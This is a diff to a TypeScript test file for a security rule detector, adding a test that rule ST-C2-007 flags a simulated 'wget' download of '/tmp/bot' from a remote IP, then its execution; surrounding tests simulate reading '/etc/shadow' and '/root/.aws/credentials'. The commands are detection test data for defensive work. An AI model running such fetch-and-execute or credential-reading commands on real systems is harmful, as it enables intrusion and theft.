@@ -83,6 +83,20 @@ test('findings carry evidence: sequence numbers, pid and the matched fields', ()
   assert.match(f.output ?? '', /file=\/etc\/shadow .*command=cat \/etc\/shadow/);
 });
 
+test('ST-C2-007 names the file run in both of its branches: the program a successful exec ran, and the drop the kernel refused', () => {
+  const chain = (run: (s: Sim) => void): string => {
+    const s = new Sim();
+    const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/bot', 'http://203.0.113.9/bot']);
+    s.open(w, '/tmp/bot', 0o1101);
+    run(s);
+    const d = createRuleDetector(pack);
+    for (const e of s.events) d.onEvent(e);
+    return d.finish().find((f) => f.rule === 'ST-C2-007')?.output ?? '';
+  };
+  assert.match(chain((s) => s.run('/tmp/bot', ['/tmp/bot'])), /exe=\/tmp\/bot file=\/tmp\/bot result=SUCCESS /);
+  assert.match(chain((s) => s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/bot', argv: ['/tmp/bot'] })), /file=\/tmp\/bot result=ENOEXEC /);
+});
+
 test('a rule matching many events yields one finding per process with a count and capped evidence', () => {
   const s = new Sim();
   for (let i = 0; i < 50; i++) s.open(1, '/root/.aws/credentials');
